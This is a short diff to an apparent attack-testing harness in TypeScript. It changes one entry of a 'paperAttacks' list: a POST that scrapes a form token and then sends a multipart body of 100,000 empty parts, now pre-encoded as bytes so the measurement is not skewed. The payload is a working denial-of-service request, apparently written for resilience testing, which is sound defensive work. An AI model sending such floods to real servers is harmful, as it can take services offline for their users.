@@ -33,7 +33,8 @@ export const paperAttacks: Attack[] = [
       const form = /name="form" value="([^"]*)"/.exec(page)![1]!
       const part = (name: string, value: string) =>
         `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
-      const body = `${part('form', form)}${part('a', '').repeat(100_000)}--x--\r\n`
+      // As bytes: to encode it each time would keep this process from measuring what others feel.
+      const body = new Uint8Array(Buffer.from(`${part('form', form)}${part('a', '').repeat(100_000)}--x--\r\n`))
       const sent = { ...headers, 'Content-Type': 'multipart/form-data; boundary=x' }
       return { blow: () => statusOf(fetch(address, { method: 'POST', headers: sent, body, redirect: 'manual' })) }
     },
